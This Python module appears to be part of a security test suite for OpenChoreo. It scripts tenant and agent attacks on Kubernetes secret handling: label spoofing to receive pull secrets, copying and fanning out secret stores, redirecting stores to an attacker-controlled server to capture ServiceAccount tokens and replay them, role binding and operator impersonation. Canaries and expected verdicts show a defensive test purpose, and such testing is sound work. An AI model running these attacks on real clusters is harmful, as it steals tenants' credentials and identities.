"""Attacks through OpenChoreo's agent, which creates what an organization asks for, and with tokens of identities."""

from __future__ import annotations

import copy
import time
from collections.abc import Iterator
from typing import Any, Final, cast

from local.grants import MOUNT
from local.seed import get_data_plane_namespace
from tests.attacks.api import Api
from tests.attacks.attack import REACHED, SHARED, STOPPED, STORE, Attack, Attempt, Verdict, expect
from tests.attacks.names import LABEL, LABELS, MANAGER, SPOOFED
from tests.attacks.reading import key_of
from tests.attacks.scene import ESO, Scene, from_store
from tests.attacks.subjects import OPERATOR, RBAC, TENANTS, bind_in, user_of

Provider = dict[str, Any]


_TOUCH: Final = 5.0
"""Seconds between two writes of a namespace that ESO should look at again."""


def spoof_label(scene: Scene, subject: Api, namespace: str) -> Attempt:
    """A namespace of the attacker with the victim's label: the victim's pull secret arrives."""
    scene.relabel(subject, namespace)
    name = find_pull_secret(scene)
    scene.undo.append(lambda: scene.world.admin.delete(ESO, "ExternalSecret", name, namespace))
    attempt = scene.obtain(name, namespace, scene.canary(f"{scene.attack.victim}-pull"))
    touched = time.monotonic()
    while True:
        try:
            next(attempt)
        except StopIteration as end:
            return cast("Verdict", end.value)
        # ESO gives up a namespace until its next refresh if others write the namespace at the same moment.
        if time.monotonic() - touched > _TOUCH:
            scene.touch(namespace)
            touched = time.monotonic()
        yield


def add_older_label(scene: Scene) -> Attempt:
    """The agent adds the label of an older release, beside the right one; the tenant uses the victim's pull store."""
    namespace = SPOOFED[3]
    scene.relabel(scene.world.agent, namespace, LABELS[-1])
    key = f"{scene.attack.victim}-pull"
    spec = from_store(scene.pull_store(scene.attack.victim), key)
    return (yield from scene.external_secret(scene.tenant, namespace, scene.canary(key), **spec))


def find_pull_secret(scene: Scene) -> str:
    """Name of the Secret that the victim's workloads pull with."""
    name = f"registry-pull-secret-{scene.attack.victim}"
    live = scene.world.admin.get(ESO, "ClusterExternalSecret", name) or {}
    spec = live["spec"]
    return str(spec["externalSecretSpec"].get("target", {}).get("name") or spec["externalSecretName"])


def read_with_label(scene: Scene, namespace: str) -> Attempt:
    """The agent labels a namespace, and the tenant reads a credential of the victim's builds."""
    scene.relabel(scene.world.agent, namespace)
    key = key_of(scene.attack.victim, "kube")
    spec = from_store(scene.store(scene.attack.victim, "kube"), key)
    return (yield from scene.external_secret(scene.tenant, namespace, scene.canary(key), **spec))


def create_labelled(scene: Scene) -> Attempt:
    """The agent creates a namespace that has the attacker's name and the victim's label."""
    attacker, victim = scene.attack.attacker, scene.attack.victim
    namespace = get_data_plane_namespace(attacker, scene.name)
    yield from create_namespace(scene, namespace, victim)
    return (yield from read_in(scene, namespace))


def create_for_victim(scene: Scene) -> Attempt:
    """The agent creates a namespace that has the victim's name and label."""
    namespace = get_data_plane_namespace(scene.attack.victim, scene.name)
    yield from create_namespace(scene, namespace, scene.attack.victim)
    return (yield from read_in(scene, namespace))


def create_namespace(scene: Scene, namespace: str, label: str) -> Iterator[None]:
    """The agent creates a namespace, in which the platform gives the tenant its rights."""
    metadata: dict[str, Any] = {"name": namespace, "labels": {LABEL: label}}
    scene.create(scene.world.agent, {"apiVersion": "v1", "kind": "Namespace", "metadata": metadata})
    bind_in(scene.world.admin, namespace, "tenant", (TENANTS, scene.attack.attacker))
    while not may_create(scene, namespace):
        yield


def may_create(scene: Scene, namespace: str) -> bool:
    """Whether the rights in a new namespace are in effect."""
    user = f"system:serviceaccount:{TENANTS}:{scene.attack.attacker}"
    return scene.world.admin.may(user, "create", "external-secrets.io/externalsecrets", namespace=namespace)


def read_in(scene: Scene, namespace: str) -> Attempt:
    """Wait until the victim's pull secret can be read in a namespace."""
    canary = scene.canary(f"{scene.attack.victim}-pull")
    return (yield from scene.obtain(find_pull_secret(scene), namespace, canary))


def build_binding(scene: Scene, namespace: str, kind: str, role: str) -> dict[str, Any]:
    """A RoleBinding for the attacker's subject."""
    return {
        "apiVersion": f"{RBAC}/v1",
        "kind": "RoleBinding",
        "metadata": {"name": scene.name, "namespace": namespace},
        "roleRef": {"apiGroup": RBAC, "kind": kind, "name": role},
        "subjects": [{"kind": "ServiceAccount", "name": scene.attack.attacker, "namespace": TENANTS}],
    }


def create_cluster_store(scene: Scene, subject: Api, provider: Provider) -> None:
    """A ClusterSecretStore without conditions."""
    scene.create(
        subject,
        {
            "apiVersion": ESO,
            "kind": "ClusterSecretStore",
            "metadata": {"name": scene.name},
            "spec": {"provider": provider},
        },
    )


def read_provider(scene: Scene, entry: str) -> Provider:
    """The provider block of the victim's store."""
    live = scene.world.admin.get(ESO, "ClusterSecretStore", f"{entry}-{scene.attack.victim}") or {}
    return copy.deepcopy(dict(live["spec"]["provider"]))


def copy_store(scene: Scene, subject: Api) -> Attempt:
    """A ClusterSecretStore with the victim's identity, for every namespace."""
    create_cluster_store(scene, subject, read_provider(scene, "bao"))
    key = key_of(scene.attack.victim, "bao")
    return (
        yield from scene.external_secret(
            scene.tenant, scene.own_builds, scene.canary(key), **from_store(scene.name, key)
        )
    )


def redirect_vault(scene: Scene) -> Attempt:
    """A store that signs in at the attacker's server as the victim; the token is used at the real one."""
    provider = read_provider(scene, "bao")
    provider["vault"]["server"] = f"{scene.world.servers.url}/{scene.name}"
    provider["vault"].pop("caBundle", None)
    create_cluster_store(scene, scene.world.agent, provider)
    key = key_of(scene.attack.victim, "bao")
    role = f"eso-{scene.attack.victim}"
    while True:
        for token in scene.world.servers.list_tokens(scene.name):
            if scene.canary(key) in read_with_token(scene, role, token, key):
                return Verdict(REACHED, reason="the token of the victim's identity arrived")
        yield


def read_with_token(scene: Scene, role: str, token: str, key: str) -> str:
    """What OpenBao answers to a ServiceAccount's token; empty if it refuses."""
    openbao = scene.world.openbao
    status, answer = openbao.ask("PUT", "auth/kubernetes/login", {"role": role, "jwt": token}, token="")
    if status != 200:
        return ""
    status, answer = openbao.ask("GET", f"{MOUNT}/data/{key}", token=answer["auth"]["client_token"])
    return str(answer["data"]["data"]) if status == 200 else ""


def redirect_kubernetes(scene: Scene) -> Attempt:
    """The same with the API server."""
    servers = scene.world.servers
    provider = read_provider(scene, "kube")
    provider["kubernetes"]["server"] = {"url": f"{servers.secure_url}/{scene.name}", "caBundle": servers.ca_bundle}
    create_cluster_store(scene, scene.world.agent, provider)
    key = key_of(scene.attack.victim, "kube")
    platform = scene.world.platform
    while True:
        for token in servers.list_tokens(scene.name):
            thief = Api(platform.server, platform.pki.ca, token=token)
            status, answer = thief.ask("GET", f"/api/v1/namespaces/{MANAGER}/secrets/{key}")
            if status == 200 and answer["metadata"]["name"] == key:
                return Verdict(REACHED, reason="the token of the victim's identity arrived")
        yield


def bind_identity(scene: Scene) -> Attempt:
    """A RoleBinding that gives the attacker the Role of the victim's identity."""
    scene.create(scene.world.agent, build_binding(scene, MANAGER, "Role", f"eso-kube-{scene.attack.victim}"))
    key = key_of(scene.attack.victim, "kube")
    while True:
        status, _ = scene.tenant.ask("GET", f"/api/v1/namespaces/{MANAGER}/secrets/{key}")
        if status == 200:
            return Verdict(REACHED, reason=f"{MANAGER}/{key} can be read")
        yield


def strip_conditions(scene: Scene) -> Attempt:
    """Remove the conditions of the victim's store."""
    victim = scene.attack.victim
    name, admin = f"bao-{victim}", scene.world.admin
    live = admin.get(ESO, "ClusterSecretStore", name) or {}
    conditions = live["spec"].get("conditions")
    scene.world.agent.patch(ESO, "ClusterSecretStore", name, {"spec": {"conditions": None}})
    scene.undo.append(lambda: admin.patch(ESO, "ClusterSecretStore", name, {"spec": {"conditions": conditions}}))
    key = key_of(victim, "bao")
    verdict = yield from scene.external_secret(
        scene.tenant, scene.own_builds, scene.canary(key), **from_store(name, key)
    )
    return verdict


def fan_out(scene: Scene) -> Attempt:
    """A ClusterExternalSecret that reads from the victim's store in the attacker's namespace."""
    victim = scene.attack.victim
    key = key_of(victim, "bao")
    selector = {"matchLabels": {"kubernetes.io/metadata.name": scene.own_builds}}
    spec = {
        "externalSecretName": scene.name,
        "namespaceSelectors": [selector],
        "externalSecretSpec": {"target": {"name": scene.name}, **from_store(scene.store(victim), key)},
    }
    scene.create(
        scene.world.agent,
        {"apiVersion": ESO, "kind": "ClusterExternalSecret", "metadata": {"name": scene.name}, "spec": spec},
    )
    return (yield from scene.obtain(scene.name, scene.own_builds, scene.canary(key)))


def request_token(scene: Scene, subject: Api) -> Attempt:
    """A token of the victim's identity from the API server."""
    victim = scene.attack.victim
    yield
    token = subject.create_token(f"eso-bao-{victim}", MANAGER)
    key = key_of(victim, "bao")
    answer = read_with_token(scene, f"eso-{victim}", token, key)
    if scene.canary(key) in answer:
        return Verdict(REACHED, reason="the token signs in")
    return Verdict(STOPPED, "identity", "the token does not sign in")


def impersonate_operator(scene: Scene) -> Attempt:
    """The agent acts as the operator, to whom no policy applies, and requests a token of the victim's identity."""
    operator = scene.world.agent.impersonate(user_of(OPERATOR))
    return (yield from request_token(scene, operator))


def list_attacks() -> Iterator[Attack]:
    """The attacks of this module."""
    guarded = expect("admission", admission=REACHED)
    labels = {**guarded, SHARED: REACHED}
    by_rbac = expect("rbac", rbac="admission")
    by_role = {**by_rbac, STORE: REACHED}
    yield Attack(
        "H1",
        "tenant labels its namespace",
        "h1-tenant",
        lambda s: spoof_label(s, s.tenant, SPOOFED[0]),
        {**by_rbac, SHARED: "rbac"},
    )
    yield Attack(
        "H1", "agent labels a namespace", "h1-agent", lambda s: spoof_label(s, s.world.agent, SPOOFED[1]), labels
    )
    if len(LABELS) > 1:
        yield Attack("H1", "agent adds an older label", "h1-older", add_older_label, labels)
    labelled = expect("admission", admission="store")
    yield Attack(
        "H1", "reads builds' values with the label", "h1-read", lambda s: read_with_label(s, SPOOFED[2]), labelled
    )
    yield Attack("T7", "agent creates a namespace with another's label", "t7-create", create_labelled, labels)
    yield Attack(
        "T7", "agent creates a namespace of another", "t7-evil", create_for_victim, expect(REACHED, shared=REACHED)
    )
    yield Attack("T13", "agent copies another's store", "t13-copy", lambda s: copy_store(s, s.world.agent), by_role)
    yield Attack("T13", "agent fans out another's store", "t13-fan", fan_out, by_rbac)
    yield Attack("H2", "tenant copies another's store", "h2-copy", lambda s: copy_store(s, s.tenant), by_rbac)
    yield Attack("H2", "agent redirects a store (vault)", "h2-vault", redirect_vault, by_role)
    yield Attack("H2", "agent redirects a store (kubernetes)", "h2-kube", redirect_kubernetes, by_role)
    yield Attack("H2", "agent binds another's Role", "h2-bind", bind_identity, guarded)
    yield Attack("H2", "agent strips conditions", "h2-strip", strip_conditions, by_role, alone=True)
    unguarded = expect("rbac", rbac=REACHED, deployed=REACHED)
    yield Attack("H2", "agent impersonates the operator", "h2-impersonate", impersonate_operator, unguarded)
    yield Attack("T12", "tenant requests a token", "t12-tenant", lambda s: request_token(s, s.tenant), by_rbac)
    yield Attack("T12", "agent requests a token", "t12-agent", lambda s: request_token(s, s.world.agent), by_rbac)
